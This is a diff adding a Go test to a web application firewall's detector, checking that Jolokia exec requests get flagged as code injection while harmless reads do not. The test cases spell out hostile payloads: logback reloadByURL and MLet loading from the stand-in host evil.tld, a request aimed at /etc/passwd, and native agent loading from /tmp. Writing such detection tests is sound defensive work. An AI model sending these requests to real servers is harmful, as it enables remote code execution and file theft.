@@ -3,6 +3,7 @@ package detect
 import (
 	"testing"
 
+	"github.com/rampartwaf/rampart/internal/parse"
 	"github.com/rampartwaf/rampart/internal/request"
 )
 
@@ -293,4 +294,36 @@ func FuzzJavaLog4j(f *testing.F) {
 			}
 		}
 	})
+}
+
+// TestJolokiaExec checks Jolokia exec requests of operations that load code or touch
+// files, in the URL and in a JSON request, against an admin console's reads.
+func TestJolokiaExec(t *testing.T) {
+	tests := []struct {
+		name, path, body string
+		want             bool
+	}{
+		{"logback reload by url", "/actuator/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/evil.tld!/logback.xml", "", true},
+		{"diagnostic command file read", "/jolokia/exec/com.sun.management:type=DiagnosticCommand/compilerDirectivesAdd/!/etc!/passwd", "", true},
+		{"mlet from url", "/jolokia/exec/JMImplementation:type=MLet/getMBeansFromURL/http:!/!/evil.tld!/x", "", true},
+		{"json reload by url", "/jolokia", `{"type":"exec","mbean":"ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator","operation":"reloadByURL","arguments":["http://evil.tld/logback.xml"]}`, true},
+		{"json agent load", "/actuator/jolokia", `{"type":"EXEC","mbean":"com.sun.management:type=DiagnosticCommand","operation":"jvmtiAgentLoad(java.lang.String)","arguments":["/tmp/x.so"]}`, true},
+		{"read heap memory", "/jolokia/read/java.lang:type=Memory/HeapMemoryUsage", "", false},
+		{"exec gc", "/jolokia/exec/java.lang:type=Memory/gc", "", false},
+		{"json thread dump", "/jolokia", `{"type":"exec","mbean":"com.sun.management:type=DiagnosticCommand","operation":"threadPrint","arguments":[]}`, false},
+		{"blog post", "/blog/jolokia-exec-reloadbyurl-explained", "", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			r := &request.Request{Method: "GET", URI: tt.path, Path: tt.path}
+			if tt.body != "" {
+				r.Method, r.ContentType, r.Body = "POST", "application/json", []byte(tt.body)
+			}
+			parse.Fill(r, parse.Limits{})
+			Inspect(r)
+			if got := r.HasSignal(CODEINJECTION); got != tt.want {
+				t.Errorf("CODEINJECTION = %v, want %v (signals %+v)", got, tt.want, r.Signals)
+			}
+		})
+	}
 }
